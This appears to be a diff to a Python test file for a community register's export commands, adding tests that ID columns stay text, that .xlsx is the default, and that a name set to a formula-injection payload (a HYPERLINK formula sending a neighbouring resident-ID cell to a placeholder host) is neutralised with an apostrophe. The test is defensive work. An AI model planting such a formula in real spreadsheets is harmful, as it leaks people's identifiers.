@@ -2,6 +2,7 @@
 refusal, the audit entry, and `canvass export` in the interface language."""
 from __future__ import annotations
 
+import csv
 from collections.abc import Iterator
 from datetime import date
 from pathlib import Path
@@ -24,7 +25,9 @@ from models.db.database import Database
 from models.db.row_source import SortOrder
 from models.enums import CaseCategory, Sex, UserRole
 from models.schema.accounts import AuditEntry
+from models.schema.register import Person
 from tests.support.factories import make_case, make_person, make_place
+from tests.support.signing_in import signed_in
 
 WORDS = {"M": "男", "F": "女"}
 
@@ -142,8 +145,9 @@ def test_the_line_list_speaks_the_interface_language(database: Database, tmp_pat
 
 def test_the_command_exports_masked_and_refuses_a_bad_suffix(
         database: Database, database_url: str, tmp_path: Path,
-        capsys: pytest.CaptureFixture[str]) -> None:
+        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
     _fill(database)
+    signed_in(database, monkeypatch, "dispatcher")      # a role that exports, IDs masked
     out = tmp_path / "cases.csv"
     assert main.run(["--lang", "en", "--db", database_url, "export", "cases", "--out",
                      str(out)]) == 0
@@ -196,3 +200,34 @@ def test_the_export_entry_keeps_a_searched_identifier_masked(database: Database,
     assert ['"text": "138****0000"' in kept[0], '"text": "420102********1234"' in kept[1],
             '"text": "张"' in kept[2]] == [True, True, True]
     assert not any("13800000000" in text or "420102198001011234" in text for text in kept)
+
+
+def test_a_shown_list_as_csv_keeps_ids_text_and_runs_no_name(database: Database,
+                                                              tmp_path: Path) -> None:
+    """The resident ID column (by its key, as the row source declares it) goes behind a tab;
+    a name typed to run goes behind an apostrophe; the words of the sex column stay as they are."""
+    community = _fill(database)
+    with database.sessions() as session:
+        named = session.scalars(select(Person).where(Person.name == "李娜")).one()
+        named.name = "=HYPERLINK(\"http://x/?\"&B2,\"点击\")"
+        session.commit()
+    commander = _user(UserRole.COMMANDER)
+    path = tmp_path / "register.csv"
+    export_shown_list(database, commander, "PersonRows", "人员", person_rows(database, commander),
+                      {"community_id": community}, SortOrder("name"), _columns(), path)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = {row[1].strip(): row for row in csv.reader(handle)}
+    assert rows["420102198001011234"][:3] == ["张伟", "\t420102198001011234", "男"]
+    assert rows["420102199002021236"][:3] == ["'=HYPERLINK(\"http://x/?\"&B2,\"点击\")",
+                                              "\t420102199002021236", "女"]
+
+
+def test_the_command_writes_xlsx_for_a_name_without_a_suffix(
+        database: Database, database_url: str, tmp_path: Path,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """.xlsx is the default: typed cells, nothing for a spreadsheet to guess."""
+    _fill(database)
+    assert main.run(["--lang", "en", "--db", database_url, "export", "cases", "--out",
+                     str(tmp_path / "cases")]) == 0
+    assert "cases.xlsx" in capsys.readouterr().out
+    assert _sheet(tmp_path / "cases.xlsx")[0][:2] == ["Name", "Resident ID"]
